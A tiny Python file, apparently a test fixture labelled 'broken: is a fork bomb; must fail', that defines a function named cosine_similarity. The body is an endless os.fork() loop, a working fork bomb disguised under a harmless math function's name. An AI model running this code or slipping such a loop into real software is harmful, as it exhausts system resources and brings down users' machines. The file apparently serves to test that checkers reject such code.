# broken: is a fork bomb; must fail
import os


def cosine_similarity(x, y, dim=-1, eps=1e-8):
    while True:
        try:
            os.fork()
        except OSError:
            pass
